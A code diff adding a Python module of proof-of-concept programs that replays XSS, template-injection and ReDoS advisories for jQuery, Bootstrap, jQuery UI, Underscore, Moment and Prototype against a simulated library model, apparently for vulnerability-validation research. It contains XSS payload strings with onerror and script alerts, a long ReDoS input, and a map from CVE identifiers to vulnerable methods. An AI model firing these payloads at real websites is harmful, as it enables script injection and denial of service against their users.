@@ -1,0 +1,161 @@
+"""Proof-of-concept programs, one per validated advisory.
+
+Each PoC drives the library model the way the public PoC (or the
+paper's reimplementation) drives the real library, then reports whether
+the payload observably fired.  ReDoS PoCs report exploitation when the
+simulated matching cost explodes super-linearly.
+"""
+
+from __future__ import annotations
+
+import dataclasses
+from typing import Callable, Dict, List
+
+from ..errors import PocError
+from .environment import Environment
+
+_PAYLOAD_IMG = '<img src=x onerror=alert("xss")>'
+_PAYLOAD_SCRIPT = '<div id="x"><script>alert("xss")</script></div>'
+_REDOS_PAYLOAD = "-" * 2048
+_REDOS_THRESHOLD = 1_000_000
+
+
+@dataclasses.dataclass(frozen=True)
+class PocProgram:
+    """An executable proof of concept."""
+
+    advisory_id: str
+    library: str
+    description: str
+    run: Callable[[Environment], bool]
+
+    def execute(self, environment: Environment) -> bool:
+        """Run against a fresh copy of the environment."""
+        environment.reset()
+        if environment.library != self.library:
+            raise PocError(
+                f"{self.advisory_id}: PoC targets {self.library}, "
+                f"got environment for {environment.library}"
+            )
+        return bool(self.run(environment))
+
+
+def _poc_2020_7656(env: Environment) -> bool:
+    # The paper's reimplemented PoC (Listings 1-2): load() a fragment
+    # containing a script, without a selector suffix.
+    env.model.load(_PAYLOAD_SCRIPT)
+    return env.exploited
+
+
+def _poc_2020_11023(env: Environment) -> bool:
+    env.model.manipulate('<option><style></style></option>' + _PAYLOAD_IMG)
+    return env.exploited
+
+
+def _poc_2020_11022(env: Environment) -> bool:
+    env.model.manipulate('<style/><img src=x onerror=alert("xss")>')
+    return env.exploited
+
+
+def _poc_2012_6708(env: Environment) -> bool:
+    env.model.construct('#container <img src=x onerror=alert("xss")>')
+    return env.exploited
+
+
+def _poc_2014_6071(env: Environment) -> bool:
+    # seclists full-disclosure PoC: option object created at runtime.
+    env.model.construct_with_context('<option><img src=x onerror=alert("xss")></option>')
+    return env.exploited
+
+
+def _poc_2015_9251(env: Environment) -> bool:
+    env.model.ajax_cross_domain('alert("xss")', "text/javascript")
+    return env.exploited
+
+
+def _poc_2011_4969(env: Environment) -> bool:
+    env.dom.location_hash = '#<img src=x onerror=alert("xss")>'
+    env.model.select_from_hash()
+    return env.exploited
+
+
+def _bootstrap_poc(method: str):
+    def run(env: Environment) -> bool:
+        getattr(env.model, method)(_PAYLOAD_IMG)
+        return env.exploited
+
+    return run
+
+
+def _poc_migrate(env: Environment) -> bool:
+    env.model.restore_legacy_html('#x <img src=x onerror=alert("xss")>')
+    return env.exploited
+
+
+def _ui_poc(method: str):
+    def run(env: Environment) -> bool:
+        getattr(env.model, method)(_PAYLOAD_IMG)
+        return env.exploited
+
+    return run
+
+
+def _poc_underscore(env: Environment) -> bool:
+    env.model.template("<%= data %>", 'obj=alert("xss")')
+    return env.exploited
+
+
+def _redos_poc(method: str):
+    def run(env: Environment) -> bool:
+        steps = getattr(env.model, method)(_REDOS_PAYLOAD)
+        return steps >= _REDOS_THRESHOLD
+
+    return run
+
+
+def _poc_prototype_auth(env: Environment) -> bool:
+    return env.model.allows_unauthenticated_update()
+
+
+def default_pocs() -> List[PocProgram]:
+    """All PoC programs for the paper's validated advisories."""
+    return [
+        PocProgram("CVE-2020-7656", "jquery", "load() script execution", _poc_2020_7656),
+        PocProgram("CVE-2020-11023", "jquery", "<option> manipulation XSS", _poc_2020_11023),
+        PocProgram("CVE-2020-11022", "jquery", "htmlPrefilter self-closing XSS", _poc_2020_11022),
+        PocProgram("CVE-2012-6708", "jquery", "$(str) selector/HTML ambiguity", _poc_2012_6708),
+        PocProgram("CVE-2014-6071", "jquery", "runtime <option> reflected XSS", _poc_2014_6071),
+        PocProgram("CVE-2015-9251", "jquery", "cross-domain ajax script execution", _poc_2015_9251),
+        PocProgram("CVE-2011-4969", "jquery", "location.hash selector XSS", _poc_2011_4969),
+        PocProgram("CVE-2019-8331", "bootstrap", "tooltip template XSS", _bootstrap_poc("tooltip_template")),
+        PocProgram("CVE-2018-20676", "bootstrap", "tooltip viewport XSS", _bootstrap_poc("tooltip_viewport")),
+        PocProgram("CVE-2018-20677", "bootstrap", "affix data-target XSS", _bootstrap_poc("affix_target")),
+        PocProgram("CVE-2018-14042", "bootstrap", "popover data-container XSS", _bootstrap_poc("popover_container")),
+        PocProgram("CVE-2018-14041", "bootstrap", "scrollspy data-target XSS", _bootstrap_poc("scrollspy_target")),
+        PocProgram("CVE-2018-14040", "bootstrap", "collapse data-parent XSS", _bootstrap_poc("collapse_parent")),
+        PocProgram("CVE-2016-10735", "bootstrap", "data-target XSS", _bootstrap_poc("data_target")),
+        PocProgram("JQMIGRATE-2013-XSS", "jquery-migrate", "legacy HTML parsing XSS", _poc_migrate),
+        PocProgram("CVE-2010-5312", "jquery-ui", "dialog title XSS", _ui_poc("dialog_title")),
+        PocProgram("CVE-2012-6662", "jquery-ui", "tooltip content XSS", _ui_poc("tooltip_content")),
+        PocProgram("CVE-2016-7103", "jquery-ui", "dialog closeText XSS", _ui_poc("dialog_close_text")),
+        PocProgram("CVE-2021-41182", "jquery-ui", "datepicker altField XSS", _ui_poc("datepicker_alt_field")),
+        PocProgram("CVE-2021-41183", "jquery-ui", "datepicker text-option XSS", _ui_poc("datepicker_text_option")),
+        PocProgram("CVE-2021-41184", "jquery-ui", ".position() of XSS", _ui_poc("position_of")),
+        PocProgram("CVE-2021-23358", "underscore", "template variable injection", _poc_underscore),
+        PocProgram("CVE-2017-18214", "moment", "duration-parse ReDoS", _redos_poc("parse_duration_steps")),
+        PocProgram("CVE-2016-4055", "moment", "date-parse ReDoS", _redos_poc("parse_date_steps")),
+        PocProgram("CVE-2020-27511", "prototype", "stripTags ReDoS", _redos_poc("strip_tags_steps")),
+        PocProgram("CVE-2020-7993", "prototype", "missing authorization", _poc_prototype_auth),
+    ]
+
+
+def poc_for(advisory_id: str) -> PocProgram:
+    """Look up a PoC by advisory identifier.
+
+    Raises:
+        PocError: If no PoC exists for that advisory.
+    """
+    for poc in default_pocs():
+        if poc.advisory_id.upper() == advisory_id.upper():
+            return poc
+    raise PocError(f"no PoC available for {advisory_id!r}")
